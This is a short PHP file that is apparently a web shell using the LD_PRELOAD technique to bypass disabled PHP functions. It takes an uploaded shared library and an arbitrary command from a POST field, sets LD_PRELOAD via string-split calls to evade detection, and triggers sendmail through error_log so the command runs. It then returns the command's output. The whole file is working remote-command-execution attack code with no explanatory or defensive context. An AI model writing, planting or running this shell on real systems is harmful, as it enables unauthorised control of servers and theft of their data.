<?php
$so = sys_get_temp_dir() . '/.libx' . substr(md5(__FILE__), 0, 6) . '.so';
if (isset($_FILES['so'])) { move_uploaded_file($_FILES['so']['tmp_name'], $so); }
$cmd = $_POST['cmd'];
$o = sys_get_temp_dir() . '/.out';
$e = 'put' . 'env';
$e('EVIL_CMDLINE=' . $cmd . ' > ' . $o . ' 2>&1');
$e('LD_PRE' . 'LOAD=' . $so);
error_log('x', 1, 'root@example.invalid');
echo file_get_contents($o);
@unlink($o);
